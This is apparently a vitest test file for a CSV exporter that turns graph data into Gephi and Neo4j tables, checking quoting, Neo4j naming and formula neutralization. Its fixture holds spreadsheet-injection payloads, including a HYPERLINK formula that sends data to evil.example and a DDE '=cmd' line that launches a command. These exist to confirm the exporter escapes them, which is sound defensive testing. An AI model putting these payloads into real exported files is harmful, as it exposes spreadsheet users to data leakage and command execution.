// CSV tables for Gephi and Neo4j: headers, quoting, formula neutralization, read back by csv-parse.
import { parse } from 'csv-parse/sync';
import { MultiGraph } from 'graphology';
import { describe, expect, test } from 'vitest';
import { analyze } from '../../src/analyze/index.js';
import {
  CSV_FILES,
  csvTables,
  gephiEdgesCSV,
  gephiNodesCSV,
  neo4jEdgesCSV,
  neo4jLabel,
  neo4jNodesCSV,
  neo4jType,
  neutralizeFormula,
  quoteField,
  textCell,
} from '../../src/export/csv.js';
import { buildGraph, HOSTILE_LABEL_CLEAN, TRICKY_EVIDENCE } from './fixture.js';

type Row = Record<string, string>;
const read = (text: string): Row[] => parse(text, { columns: true, relax_column_count: false, skip_empty_lines: false }) as Row[];

function graph() {
  const g = buildGraph();
  analyze(g);
  g.mergeEdgeAttributes('met:iran:russia', { dates: ['2024-01-05', '2024-02-20'], dateCounts: [2, 1] });
  // Hostile cells: formulas, a line break, a quote, a Neo4j array delimiter.
  g.addNode('formula', {
    label: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    type: 'organization',
    aliases: ['+1-555', '@SUM(A1:A2)', '-2+3', 'semi;colon', ' =spaced'],
    role: 'line\nbreak, "quoted"',
    mentions: 1,
    articles: 1,
  });
  g.addDirectedEdgeWithKey('opposes:formula:iran', 'formula', 'iran', {
    relation: 'opposes',
    weight: 2,
    category: '=cmd|" /C calc"!A0',
    evidence: ['@evil', 'a "quoted", line\r\nbreak'],
    evidenceArticles: ['a7', 'a8'],
  });
  return g;
}

describe('cells', () => {
  test('formula-like text gets a leading quote; other text is untouched', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\rx', '  =1', '\uff1d1'])
      expect(neutralizeFormula(s), JSON.stringify(s)).toBe(`'${s}`);
    for (const s of ['Iran', 'a=b', '1-2', '', "'already"]) expect(neutralizeFormula(s)).toBe(s);
  });
  test('quoting follows RFC 4180', () => {
    expect(quoteField('plain')).toBe('plain');
    expect(quoteField('a,b')).toBe('"a,b"');
    expect(quoteField('say "hi"')).toBe('"say ""hi"""');
    expect(quoteField(' edge ')).toBe('" edge "');
    expect(textCell('two\nlines')).toBe('two lines');
    expect(textCell('=a,b')).toBe(`"'=a,b"`);
  });
  test('Neo4j names', () => {
    expect(neo4jLabel('armed_group')).toBe('ArmedGroup');
    expect(neo4jLabel('country')).toBe('Country');
    expect(neo4jLabel(undefined)).toBeUndefined();
    expect(neo4jType('allied_with')).toBe('ALLIED_WITH');
    expect(neo4jType('member-of')).toBe('MEMBER_OF');
  });
});

describe('Gephi tables', () => {
  test('nodes: Id, Label, then attributes; one row per node, read back by csv-parse', () => {
    const g = graph();
    const text = gephiNodesCSV(g);
    const header = text.slice(0, text.indexOf('\n')).split(',');
    expect(header.slice(0, 4)).toEqual(['Id', 'Label', 'type', 'aliases']);
    expect(header).toEqual(expect.arrayContaining(['mentions', 'pagerank', 'community', 'x', 'y', 'size', 'color']));
    const rows = read(text);
    expect(rows.map((r) => r.Id)).toEqual(g.nodes().sort());
    const tom = rows.find((r) => r.Id === 'tom-jerry')!;
    expect(tom.Label).toBe(HOSTILE_LABEL_CLEAN);
    const iran = rows.find((r) => r.Id === 'iran')!;
    expect(JSON.parse(iran.aliases)).toEqual(['Islamic Republic of Iran', 'Persia, "old"', '[Tehran]']);
    expect(Number(iran.mentions)).toBe(12);
    expect(Number(iran.x)).toBe(g.getNodeAttribute('iran', 'x'));
    const f = rows.find((r) => r.Id === 'formula')!;
    expect(f.Label).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(f.role).toBe('line break, "quoted"');
    // Lists start with '[': never a formula; each item keeps its text.
    expect(JSON.parse(f.aliases)).toEqual(['+1-555', '@SUM(A1:A2)', '-2+3', 'semi;colon', ' =spaced']);
  });

  test('edges: Source, Target, Type, Id, Label, Weight (≥ 1), then attributes', () => {
    const g = graph();
    const text = gephiEdgesCSV(g);
    expect(text.slice(0, text.indexOf('\n'))).toMatch(/^Source,Target,Type,Id,Label,Weight,relation,category,first,last,dates,dateCounts,/);
    const rows = read(text);
    expect(rows.map((r) => r.Id)).toEqual(g.edges().sort());
    const met = rows.find((r) => r.Id === 'met:iran:russia')!;
    expect(met).toMatchObject({ Source: 'iran', Target: 'russia', Type: 'Undirected', Label: 'met', Weight: '3', relation: 'met' });
    expect(JSON.parse(met.evidence)).toEqual(TRICKY_EVIDENCE);
    expect(JSON.parse(met.dates)).toEqual(['2024-01-05', '2024-02-20']);
    expect(rows.find((r) => r.Id === 'attacks:israel:hezbollah')).toMatchObject({ Type: 'Directed', Weight: '1' });
    const f = rows.find((r) => r.Id === 'opposes:formula:iran')!;
    expect(f.category).toBe(`'=cmd|" /C calc"!A0`);
    expect(JSON.parse(f.evidence)).toEqual(['@evil', 'a "quoted", line  break']);
  });

  test('no cell of either variant starts like a formula (other than our own numbers)', () => {
    for (const text of Object.values(csvTables(graph()))) {
      const rows = parse(text, { columns: false }) as string[][];
      for (const row of rows) for (const cell of row) if (/^[=+\-@]/.test(cell)) expect(cell, cell).toMatch(/^-?\d+(\.\d+)?(e-?\d+)?$/);
    }
  });
});

describe('Neo4j tables', () => {
  test('nodes: id:ID, name, :LABEL and typed properties', () => {
    const g = graph();
    const text = neo4jNodesCSV(g);
    const header = text.slice(0, text.indexOf('\n')).split(',');
    expect(header.slice(0, 5)).toEqual(['id:ID', 'name', ':LABEL', 'type', 'aliases:string[]']);
    expect(header).toEqual(
      expect.arrayContaining([
        'mentions:long',
        'articles:long',
        'first:date',
        'last:date',
        'pagerank:double',
        'community:long',
        'x:double',
      ]),
    );
    const rows = read(text);
    const iran = rows.find((r) => r['id:ID'] === 'iran')!;
    expect(iran[':LABEL']).toBe('Actor;Country');
    expect(iran.name).toBe('Iran');
    expect(iran['aliases:string[]'].split(';')).toEqual(['Islamic Republic of Iran', 'Persia, "old"', '[Tehran]']);
    expect(iran['first:date']).toBe('2024-01-03');
    expect(rows.find((r) => r['id:ID'] === 'hezbollah')![':LABEL']).toBe('Actor;ArmedGroup');
    expect(rows.find((r) => r['id:ID'] === 'hezbollah')!['aliases:string[]']).toBe(''); // empty: no property
    const f = rows.find((r) => r['id:ID'] === 'formula')!;
    expect(f['aliases:string[]']).toBe(`'+1-555;@SUM(A1:A2);-2+3;semi,colon; =spaced`);
    expect(f['first:date']).toBe('');
  });

  test('relationships: :START_ID, :END_ID, :TYPE and typed properties', () => {
    const g = graph();
    const text = neo4jEdgesCSV(g);
    const header = text.slice(0, text.indexOf('\n')).split(',');
    expect(header.slice(0, 7)).toEqual([':START_ID', ':END_ID', ':TYPE', 'key', 'relation', 'undirected:boolean', 'weight:long']);
    expect(header).toEqual(expect.arrayContaining(['first:date', 'dates:date[]', 'dateCounts:long[]', 'evidence:string[]']));
    const rows = read(text);
    expect(rows).toHaveLength(g.size);
    const met = rows.find((r) => r.key === 'met:iran:russia')!;
    expect(met).toMatchObject({
      ':START_ID': 'iran',
      ':END_ID': 'russia',
      ':TYPE': 'MET',
      'undirected:boolean': 'true',
      'weight:long': '3',
    });
    expect(met['dates:date[]']).toBe('2024-01-05;2024-02-20');
    expect(met['dateCounts:long[]']).toBe('2;1');
    expect(rows.find((r) => r.key === 'member_of:vladimir-putin:russia')![':TYPE']).toBe('MEMBER_OF');
    expect(rows.find((r) => r.key === 'attacks:israel:hezbollah')!['weight:long']).toBe('0'); // Neo4j keeps the real weight
    const ids = new Set(read(neo4jNodesCSV(g)).map((r) => r['id:ID']));
    for (const r of rows) expect(ids.has(r[':START_ID']) && ids.has(r[':END_ID'])).toBe(true);
  });
});

describe('csvTables', () => {
  test('both variants by default, or one', () => {
    const g = graph();
    expect(Object.keys(csvTables(g))).toEqual([CSV_FILES.gephi.nodes, CSV_FILES.gephi.edges, CSV_FILES.neo4j.nodes, CSV_FILES.neo4j.edges]);
    expect(Object.keys(csvTables(g, { variant: 'gephi' }))).toEqual(['.nodes.csv', '.edges.csv']);
    expect(Object.keys(csvTables(g, { variant: 'neo4j' }))).toEqual(['.neo4j.nodes.csv', '.neo4j.edges.csv']);
    expect(() => csvTables(g, { variant: 'excel' as never })).toThrow(/CSV variant/);
    expect(csvTables(g)).toEqual(csvTables(graph()));
  });
  test('an empty graph gives header-only tables', () => {
    const tables = csvTables(new MultiGraph());
    expect(tables['.nodes.csv']).toBe('Id,Label\n');
    expect(tables['.edges.csv']).toBe('Source,Target,Type,Id,Label,Weight\n');
    expect(tables['.neo4j.nodes.csv']).toBe('id:ID,name,:LABEL\n');
    expect(tables['.neo4j.edges.csv']).toBe(':START_ID,:END_ID,:TYPE,key\n');
  });
});
